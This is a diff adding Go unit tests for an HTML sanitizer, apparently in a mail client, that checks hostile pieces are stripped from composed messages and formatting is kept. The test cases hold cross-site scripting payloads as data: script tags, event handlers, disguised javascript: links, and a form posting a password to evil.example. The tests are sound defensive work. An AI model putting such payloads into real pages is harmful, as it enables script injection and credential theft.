@@ -294,3 +294,65 @@ func checkSafeStyle(t testing.TB, style string, allowRemote bool) {
 		}
 	}
 }
+
+// TestSanitizeAuthored: HTML written to send goes through the rules mail
+// is shown with; each hostile piece is gone, the formatting stays, and
+// links get no target or rel of the reader's.
+func TestSanitizeAuthored(t *testing.T) {
+	tests := []struct {
+		name   string
+		html   string
+		absent []string // lower case
+		keep   []string
+	}{
+		{"script", `<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`, []string{"<script", "alert", "evil"}, []string{"<p>hi</p>"}},
+		{"event handlers", `<p onclick="alert(1)">a</p><img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(2)"><b onmouseover=alert(3)>b</b>`,
+			[]string{"onclick", "onerror", "onmouseover", "alert"}, []string{"<b>b</b>", `src="data:image/png;base64,iVBORw0KGgo="`}},
+		{"javascript links", `<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(2)">y</a><a href="java&#x09;script:alert(3)">z</a>`, []string{"javascript", "alert", "href"}, []string{"x", "y", "z"}},
+		{"remote images", `<img src="http://tracker.example/p.gif"><img src="https://tracker.example/q.gif"><img src="//tracker.example/r.gif"><img srcset="https://tracker.example/s.gif 2x">`,
+			[]string{"tracker", "<img"}, nil},
+		{"style element and import", `<style>@import url(https://evil.example/x.css); p{color:red}</style><p>x</p>`, []string{"<style", "@import", "evil", "color:red"}, []string{"<p>x</p>"}},
+		{"style attribute url", `<p style="color: red; background: url(https://evil.example/x.png)">x</p><p style="background-image: url('//evil.example/y')">y</p>`, []string{"url(", "evil"}, []string{"color: red"}},
+		{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>`, []string{"<link", "evil"}, nil},
+		{"forms", `<form action="https://evil.example/steal" method="post"><input name="pw" type="password"><button formaction="https://evil.example/">Go</button><textarea>t</textarea></form>`,
+			[]string{"<form", "<input", "<button", "<textarea", "action", "evil"}, []string{"Go"}},
+		{"frames and objects", `<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">`, []string{"<iframe", "<object", "<embed", "evil"}, nil},
+		{"meta and base", `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><p>x</p>`, []string{"<meta", "<base", "evil"}, nil},
+		{"svg", `<svg onload="alert(1)"><a xlink:href="javascript:alert(2)">t</a></svg>`, []string{"<svg", "onload", "alert", "xlink"}, nil},
+		{"formatting kept", `<p><strong>b</strong> <em>i</em></p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>q</p></blockquote><a href="https://example.com/">l</a>`,
+			[]string{"target=", "noopener"}, []string{"<strong>b</strong>", "<em>i</em>", "<ul><li>one</li>\n</ul>\n", "<ol><li>two</li>\n</ol>\n", "<blockquote><p>q</p>\n</blockquote>\n", `href="https://example.com/"`}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			got := SanitizeAuthored(tc.html)
+			lower := strings.ToLower(got)
+			for _, a := range tc.absent {
+				if strings.Contains(lower, a) {
+					t.Errorf("output contains %q: %s", a, got)
+				}
+			}
+			for _, k := range tc.keep {
+				if !strings.Contains(got, k) {
+					t.Errorf("output lacks %q: %s", k, got)
+				}
+			}
+			if again := SanitizeAuthored(got); again != got {
+				t.Errorf("sanitizing twice changes it:\n%q\n%q", got, again)
+			}
+		})
+	}
+}
+
+// TestAuthoredLines: a line break after each block and <br>, none inside
+// <pre>, and a complete document around the fragment.
+func TestAuthoredLines(t *testing.T) {
+	got := SanitizeAuthored("<p>a<br>b</p><pre>x<br>\n</pre><p>c</p>")
+	if want := "<p>a<br>\nb</p>\n<pre>x<br>\n</pre>\n<p>c</p>\n"; got != want {
+		t.Errorf("SanitizeAuthored = %q, want %q", got, want)
+	}
+	doc := AuthoredDocument(got)
+	if !strings.HasPrefix(doc, "<!DOCTYPE html>\n<html>\n<head>\n") || !strings.HasSuffix(doc, "<body>\n"+strings.TrimSpace(got)+"\n</body>\n</html>\n") ||
+		!strings.Contains(doc, `charset=UTF-8`) {
+		t.Errorf("AuthoredDocument = %q", doc)
+	}
+}
